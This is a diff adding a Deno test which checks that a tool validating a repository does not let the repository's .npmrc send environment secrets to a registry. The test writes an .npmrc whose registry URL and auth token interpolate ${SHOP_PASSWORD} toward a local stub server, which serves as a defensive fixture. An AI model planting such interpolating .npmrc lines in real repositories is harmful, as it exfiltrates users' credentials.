@@ -1,9 +1,9 @@
 /** A repository whose packages have scripts: a developer who loads it does not start them. */
-import { assertEquals } from "@std/assert";
+import { assert, assertEquals, assertStringIncludes } from "@std/assert";
 import { createProject } from "../project.ts";
-import { run } from "../serving.ts";
+import { checkwrightIn, run } from "../serving.ts";
 import { isMissing } from "../tools.ts";
-import { runToEnd } from "../waiting.ts";
+import { outputOf, runToEnd } from "../waiting.ts";
 
 const tar = "/usr/bin/tar";
 
@@ -74,4 +74,29 @@ Deno.test({
     }
     await registry.shutdown();
   },
+});
+
+Deno.test("The .npmrc of a repository sends no variable of the environment to a registry", async () => {
+  const requests: string[] = [];
+  await using registry = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
+    ({ url, headers }) => {
+      requests.push(`${url} ${headers.get("authorization")}`);
+      return new Response(null, { status: 404 });
+    },
+  );
+  await using project = await createProject(
+    'import evil from "npm:evil-9f2c@1.0.0";\nexport default { commands: { ok: () => `${evil}` } };\n',
+  );
+  const address = `127.0.0.1:${registry.addr.port}`;
+  await project.write(
+    ".npmrc",
+    `registry=http://${address}/leak-\${SHOP_PASSWORD}/\n` +
+      `//${address}/leak-\${SHOP_PASSWORD}/:_authToken=\${SHOP_PASSWORD}\n`,
+  );
+  const child = checkwrightIn({ SHOP_PASSWORD: "s3cret" }, "validate", project.agent).spawn();
+  const { code } = await outputOf(child, "validate");
+  assertEquals(code, 3);
+  assertStringIncludes(requests.join(), "evil-9f2c");
+  assert(!requests.join().includes("s3cret"), requests.join());
 });
